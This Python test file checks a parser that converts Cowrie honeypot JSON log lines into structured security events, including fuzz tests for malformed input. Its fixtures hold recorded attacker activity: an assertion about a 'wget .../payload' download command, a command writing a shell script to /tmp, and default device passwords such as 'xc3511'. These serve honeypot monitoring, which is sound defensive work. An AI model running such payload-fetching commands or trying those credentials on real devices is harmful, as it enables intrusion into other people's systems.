# SPDX-License-Identifier: MIT
"""What Cowrie's lines become; the sample in `data/` was written by the real Cowrie (see its README)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet_core.events.catalogue import (
    CommandRun,
    ConnectionOpened,
    FileCaptured,
    LoginAttempt,
    ServiceRequest,
    SessionClosed,
    kind_of,
)
from decnet_core.events.codec import BadEventError, decode, encode
from decnet_core.events.envelope import Event
from decnet_core.events.ids import uuid7
from decnet_sniff.collect.formats.cowrie import Services, parse
from decnet_sniff.collect.outcome import Ignored, Outcome, Parsed, Rejected

SAMPLE = Path(__file__).parents[1] / "data" / "cowrie.json"


def line(**fields: Any) -> bytes:
    whole = {
        "eventid": "cowrie.session.connect",
        "timestamp": "2026-11-23T10:20:30.123456Z",
        "src_ip": "192.0.2.7",
        "src_port": 4242,
        "dst_ip": "198.51.100.1",
        "dst_port": 22,
        "session": "abc",
        "protocol": "ssh",
        "sensor": "web01",
    }
    return json.dumps({key: value for key, value in (whole | fields).items() if value is not None}).encode()


def parsed(outcome: Outcome) -> Parsed:
    assert isinstance(outcome, Parsed), outcome
    return outcome


def only(outcome: Outcome) -> Any:
    (payload,) = parsed(outcome).payloads
    return payload


def as_event(outcome: Parsed) -> Event:
    """Through the codec, which checks every limit of the envelope."""
    src, dst = outcome.src or (None, None), outcome.dst or (None, None)
    event = Event(
        id=uuid7(outcome.ts), ts=outcome.ts, sensor="s", payload=outcome.payloads[0], decky=outcome.host,
        src_ip=src[0], src_port=src[1], dst_ip=dst[0], dst_port=dst[1], session=outcome.session,
    )  # fmt: skip
    assert decode(encode(event)) == event
    return event


def test_every_line_of_the_real_sample_is_understood() -> None:
    services = Services()
    outcomes = [parse(text, services) for text in SAMPLE.read_bytes().splitlines()]
    assert not [outcome for outcome in outcomes if isinstance(outcome, Rejected)]
    events = [as_event(outcome) for outcome in outcomes if isinstance(outcome, Parsed)]
    kinds = {event.kind for event in events}
    assert kinds == {
        "connection.opened", "client.identified", "auth.attempt", "session.opened", "session.command",
        "session.closed", "file.captured", "service.request",
    }  # fmt: skip
    logins = [
        (p.service, p.username, p.password, p.success) for e in events if isinstance(p := e.payload, LoginAttempt)
    ]
    assert logins == [
        ("ssh", "root", "root", False),
        ("ssh", "root", "hunter2", True),
        ("telnet", "root", "xc3511", True),
    ]
    commands = [p.command for e in events if isinstance(p := e.payload, CommandRun)]
    assert commands[0].startswith("uname -a; echo '#!/bin/sh' > /tmp/x.sh")
    assert "wget http://127.0.0.1:9/payload" in commands
    assert {event.src_ip for event in events} == {"127.0.0.1"}
    assert all(event.session for event in events)


def test_identity_comes_from_the_records_own_fields() -> None:
    text = "x src_ip=203.0.113.9 \x1b[2J session=evil"
    outcome = parsed(parse(line(eventid="cowrie.command.input", input=text, message=text), Services()))
    assert (outcome.src, outcome.dst) == (("192.0.2.7", 4242), ("198.51.100.1", 22))
    assert (outcome.session, outcome.host) == ("abc", "web01")
    assert outcome.ts == 1_795_429_230_123_456_000
    assert outcome.payloads == (CommandRun("ssh", text),)


@pytest.mark.parametrize("event_id", ["cowrie.direct-tcpip.request", "cowrie.direct-tcpip.data"])
def test_a_forwarding_target_is_not_the_destination(event_id: str) -> None:
    outcome = parsed(parse(line(eventid=event_id, dst_ip="10.0.0.5", dst_port=3306, src_port=7), Services()))
    assert (outcome.src, outcome.dst) == (("192.0.2.7", None), None)
    assert only(outcome).detail == {"dst_ip": "10.0.0.5", "dst_port": "3306", "src_port": "7"}


def test_cowrie_2_says_the_protocol_only_at_the_beginning() -> None:
    services = Services()
    assert only(parse(line(protocol="telnet"), services)) == ConnectionOpened("telnet")
    closed = line(eventid="cowrie.session.closed", protocol=None, duration=1.5)
    assert only(parse(closed, services)) == SessionClosed("telnet", 1500)
    other = line(eventid="cowrie.session.closed", protocol=None, session="other", duration="2.25")
    assert only(parse(other, services)) == SessionClosed("ssh", 2250)


def test_open_sessions_are_remembered_within_a_limit() -> None:
    services = Services(limit=2)
    for session in ("1", "2", "3"):
        parse(line(protocol="telnet", session=session), services)
    known = [
        only(parse(line(eventid="cowrie.session.closed", protocol=None, session=session), services)).service
        for session in ("1", "2", "3")
    ]
    assert known == ["ssh", "telnet", "telnet"]


def test_a_session_that_ended_is_remembered_for_what_is_written_late() -> None:
    services = Services(ended_limit=1)
    for session in ("1", "2"):
        parse(line(protocol="telnet", session=session), services)
        parse(line(eventid="cowrie.session.closed", protocol=None, session=session, duration="1"), services)
    late = [
        only(parse(line(eventid="cowrie.command.input", protocol=None, session=session, input="x"), services)).service
        for session in ("1", "2")
    ]
    assert late == ["ssh", "telnet"]


def test_sessions_that_came_and_went_take_no_room() -> None:
    services = Services(ended_limit=10)
    for number in range(1000):
        parse(line(session=str(number)), services)
        parse(line(eventid="cowrie.session.closed", session=str(number), duration="1"), services)
    assert len(services) == 10


def test_offered_key_is_named_as_openssh_names_it() -> None:
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJvZ3VzLWtleS1mb3ItdGVzdHMtb25seS0wMDAwMDAw"
    failed = line(eventid="cowrie.login.failed", username="git", key=key, fingerprint="aa:bb", type="ssh-ed25519")
    login = only(parse(failed, Services()))
    assert (login.method, login.username, login.password) == ("publickey", "git", None)
    assert login.public_key.startswith("SHA256:")
    assert len(login.public_key) == 50
    odd = line(eventid="cowrie.login.success", username="git", key="???", fingerprint="aa:bb")
    assert only(parse(odd, Services())).public_key == "aa:bb"


def test_part_of_a_command_line_without_an_answer_is_not_a_second_command() -> None:
    payload = only(parse(line(eventid="cowrie.command.failed", input="nosuch"), Services()))
    assert payload == ServiceRequest("ssh", "command-not-found", {"input": "nosuch"})


def test_download_names_file_and_source() -> None:
    got = line(
        eventid="cowrie.session.file_download", shasum="ab" * 32, url="http://203.0.113.1/x", destfile="/tmp/x", size=7
    )
    assert only(parse(got, Services())) == FileCaptured("ssh", "ab" * 32, 7, "/tmp/x", "http://203.0.113.1/x")


@pytest.mark.parametrize("event_id", ["cowrie.log.open", "cowrie.virustotal.scanfile", "cowrie.client.size"])
def test_what_says_nothing_about_an_attacker_is_ignored(event_id: str) -> None:
    assert parse(line(eventid=event_id), Services()) == Ignored(event_id)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (b"", "not JSON"),
        (b"{", "not JSON"),
        (b"[]", "not a JSON object"),
        (b"\xff\xfe{}", "not"),
        (b'{"eventid": "\xff"}', "not UTF-8"),
        (b"{}", "no eventid"),
        (b'{"eventid": 7}', "no eventid"),
        (line(eventid="cowrie.new.thing"), "unknown eventid"),
        (line(src_ip="localhost"), "src_ip is not an IP address"),
        (line(src_ip=None), "src_ip is not an IP address"),
        (line(timestamp="yesterday"), "no valid timestamp"),
        (line(timestamp="9999-12-31T23:59:59Z"), "no valid timestamp"),
        (line(eventid="cowrie.command.input"), "a field of this eventid is missing"),
        (b"[" * 100_000, "not JSON"),
        (b'{"eventid": "\\ud800' + b"[" * 100_000, "not JSON"),
    ],
)
def test_what_cannot_be_understood_says_why(text: bytes, reason: str) -> None:
    outcome = parse(text, Services())
    assert isinstance(outcome, Rejected)
    assert outcome.reason.startswith(reason)


def test_lone_surrogate_hides_nothing() -> None:
    command = line(eventid="cowrie.command.input", input="rm \udcff")
    assert b"\\udcff" in command
    assert only(parse(command, Services())) == CommandRun("ssh", "rm \\udcff")


def test_addresses_are_canonical_and_ports_in_range() -> None:
    outcome = parsed(parse(line(src_ip="::FFFF:192.0.2.7", src_port=70_000, dst_ip="fe80::1%eth0"), Services()))
    assert (outcome.src, outcome.dst) == (("192.0.2.7", None), ("fe80::1", 22))


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=300),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=10), inner, max_size=3),
    max_leaves=5,
)
names = st.sampled_from(
    ["eventid", "timestamp", "src_ip", "src_port", "session", "protocol", "sensor", "input", "username", "password",
     "key", "shasum", "duration", "duration_ms", "size", "version", "url", "extra"]
)  # fmt: skip
event_ids = st.sampled_from(sorted(__import__("decnet_sniff.collect.formats.cowrie", fromlist=["_KINDS"])._KINDS))


@given(event_ids, st.dictionaries(names, json_values, max_size=6))
def test_any_values_give_a_valid_event_or_a_reason(event_id: str, fields: dict[str, Any]) -> None:
    outcome = parse(line(eventid=event_id, **{k: v for k, v in fields.items() if k != "eventid"}), Services())
    if isinstance(outcome, Parsed):
        as_event(outcome)
        assert kind_of(outcome.payloads[0])


@given(st.binary(max_size=300))
def test_any_bytes_give_a_reason_at_worst(text: bytes) -> None:
    assert isinstance(parse(text, Services()), Ignored | Rejected)


@given(st.integers(0, 10_000), st.binary(min_size=1, max_size=4))
def test_damaged_real_lines_never_raise(place: int, damage: bytes) -> None:
    content = bytearray(SAMPLE.read_bytes())
    at = place % len(content)
    content[at : at + len(damage)] = damage
    for text in bytes(content).splitlines():
        outcome = parse(text, Services())
        if isinstance(outcome, Parsed):
            try:
                as_event(outcome)
            except BadEventError as error:
                raise AssertionError(text) from error
